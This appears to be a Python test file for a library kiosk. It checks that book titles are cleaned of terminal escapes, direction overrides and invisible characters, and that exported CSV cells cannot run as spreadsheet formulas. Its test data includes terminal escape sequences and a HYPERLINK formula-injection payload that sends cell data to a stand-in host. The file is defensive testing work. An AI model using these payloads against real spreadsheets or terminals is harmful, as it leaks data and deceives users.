"""Book titles from outside, and the CSV files staff open in a spreadsheet.

A title can come from a staff member's paste, a CSV file or a `booth/cmd/title` message:
whatever it holds, what the station stores, prints and exports must read as what it shows
(no terminal escapes, no direction overrides, nothing invisible), and no cell of a CSV
the station writes may run as a spreadsheet formula.
"""

from __future__ import annotations

import ast
import csv
import io
import re
import sqlite3
import unicodedata
from datetime import datetime, timezone
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from kiosk.booth import rules
from kiosk.booth.store import BoothStore
from kiosk.cli import main
from kiosk.csvfiles import FORMULA_PREFIXES, TEXT_MARK, csv_text
from kiosk.errors import BadValue

BIDI_CONTROLS = set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
ZERO_WIDTH = set("\u200b\u2060\ufeff\u180e\u2061\u2062\u2063\u2064")
NUMBER = re.compile(r"-?[0-9]+")


def hidden_characters(text: str) -> list[str]:
    """What a title must never hold: control characters (C0, DEL, C1), bidi embeddings,
    overrides and isolates, zero-width spaces and other invisible format characters
    (except the joiners and direction marks scripts need), lone surrogates."""
    return [c for c in text if unicodedata.category(c) in ("Cc", "Cs") or c in BIDI_CONTROLS or c in ZERO_WIDTH
            or (unicodedata.category(c) == "Cf" and c not in "\u200c\u200d\u200e\u200f\u061c")]


# Text as hostile as it gets: every code point (lone surrogates too: a title typed as invalid
# UTF-8 on the command line arrives as one), with the usual suspects mixed in often.
SUSPECTS = st.sampled_from(["\x1b[31m", "\x1b]0;owned\x07", "\x1b[2J", "\u202e", "\u2066", "\u200b", "\ufeff",
                            "\x00", "\x7f", "\x9b31m", "\r", "\n", "\t", "=", "+", "-", "@", " ", "\u200d"])
HOSTILE = st.lists(st.one_of(st.text(alphabet=st.characters(exclude_categories=()), max_size=8), SUSPECTS),
                   max_size=12).map("".join)


@pytest.fixture
def config(booth_config):
    return booth_config(1883)


def kiosk(config, *args):
    return main(["--config", config.source, "admin", *args])


def lend(store: BoothStore, book: rules.Book, card: rules.Card) -> None:
    now = datetime.now(timezone.utc)
    decision = rules.lend(book, card, rules.Desk(session=card.id), rules.Limits(), now.timestamp())
    store.db.write(lambda conn: store.apply(conn, decision, "", now))


def cells(csv_output: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(csv_output)) for cell in row]


def test_a_title_is_stored_and_shown_as_it_reads(config, capsys):
    title = "\x1b[31mDas \u202eSams\u202c\u200b kommt\x1b[0m\x07 zurück\t!"
    assert kiosk(config, "book", "add", "--tag", "01020304", "--title", title, "--author", "Paul\x1b[5m Maar") == 0
    assert capsys.readouterr().out == "Book 1 added: Das Sams kommt zurück !\n"
    assert kiosk(config, "book", "list") == 0
    listing = capsys.readouterr().out
    assert "Das Sams kommt zurück !" in listing and "Paul Maar" in listing
    assert not hidden_characters(listing.replace("\n", ""))
    # Persian keeps its zero-width non-joiner, emoji keep their joiner.
    assert kiosk(config, "book", "title", "1", "می\u200cخواهم 👩\u200d👧") == 0
    assert capsys.readouterr().out == "Book 1 is now called: می\u200cخواهم 👩\u200d👧\n"


def test_a_title_stored_before_titles_were_cleaned_is_listed_clean(config, capsys):
    assert kiosk(config, "book", "add", "--tag", "01020304", "--title", "Platzhalter") == 0
    conn = sqlite3.connect(config.data_dir / "booth.sqlite")
    with conn:
        conn.execute("UPDATE books SET title = ?", ("\x1b]0;gehackt\x07\x1b[2JAlt\u202eer Titel",))
    conn.close()
    capsys.readouterr()
    assert kiosk(config, "book", "list") == 0
    listing = capsys.readouterr().out
    assert "Alter Titel" in listing and not hidden_characters(listing.replace("\n", ""))


def test_a_formula_title_is_exported_as_text(config, capsys):
    with BoothStore.open(config) as store:
        book = store.add_book("01020304", '=HYPERLINK("http://example.invalid/?"&A1,"Mehr lesen")')
        card = store.add_card("05060708", "Lesefuchs")
        lend(store, book, card)
    assert kiosk(config, "export") == 0
    exported = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert exported[0]["title"] == '\'=HYPERLINK("http://example.invalid/?"&A1,"Mehr lesen")'
    assert exported[0]["card"] == "Lesefuchs" and exported[0]["loan"] == "1"


def test_a_huge_csv_field_is_one_line_and_imports_nothing(config, tmp_path, capsys):
    books = tmp_path / "books.csv"
    books.write_text("tag,title\n01020304,Der Grüffelo\n01020305," + "x" * 200_000 + "\n", encoding="utf-8")
    assert kiosk(config, "book", "import", str(books)) == 2
    err = capsys.readouterr().err
    assert err.startswith("kiosk: books.csv, line 3: not readable as CSV") and err.count("\n") == 1
    assert "nothing imported" in err
    with BoothStore.open(config) as store:
        assert store.books() == []


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(title=HOSTILE)
def test_any_title_is_stored_printed_and_exported_without_hidden_characters_or_formulas(config, capsys, title):
    with BoothStore.open(config) as store:
        if not store.books():
            lend(store, store.add_book("01020304", "Erstes Buch"), store.add_card("05060708"))
        try:
            book = store.set_title(1, title)
        except BadValue:
            return                        # empty once cleaned, or too long: refused, nothing changed
        assert not hidden_characters(book.title)
        assert book.title == book.title.strip() and "  " not in book.title and "\n" not in book.title
        assert store.books()[0]["title"] == book.title
    capsys.readouterr()
    assert kiosk(config, "book", "list") == 0
    assert not hidden_characters(capsys.readouterr().out.replace("\n", ""))
    assert kiosk(config, "export") == 0
    written = cells(capsys.readouterr().out)
    assert not [c for c in written if c.lstrip(" ").startswith(FORMULA_PREFIXES)]
    assert book.title in (written[10], written[10][1:])        # the title, or it with its text mark


@settings(max_examples=300, deadline=None)
@given(rows=st.lists(st.dictionaries(st.sampled_from("abc"), st.one_of(HOSTILE, st.integers())), max_size=5))
def test_no_cell_of_any_csv_the_station_writes_starts_a_formula(rows):
    text = csv_text(["a", "b", "c"], rows)
    # Only a plain number may start with "-": a spreadsheet reads it as that number.
    assert not [c for c in cells(text) if c.lstrip(" ").startswith(FORMULA_PREFIXES) and not NUMBER.fullmatch(c)]
    # Numbers stay numbers; a text keeps every character, after its mark where it needs one.
    for row, parsed in zip(rows, csv.DictReader(io.StringIO(text))):
        for key, value in row.items():
            assert parsed[key] in ((str(value),) if isinstance(value, int) else (value, TEXT_MARK + value))


def test_every_csv_the_station_writes_or_reads_goes_through_one_helper():
    package = Path(__file__).resolve().parents[2] / "kiosk"
    users = sorted(str(path.relative_to(package)) for path in package.rglob("*.py")
                   if "csv" in imported_modules(path))
    assert users == ["csvfiles.py"]


def imported_modules(path: Path) -> set[str]:
    found = set()
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        if isinstance(node, ast.Import):
            found.update(alias.name.split(".")[0] for alias in node.names)
        elif isinstance(node, ast.ImportFrom) and node.module and not node.level:
            found.add(node.module.split(".")[0])
    return found
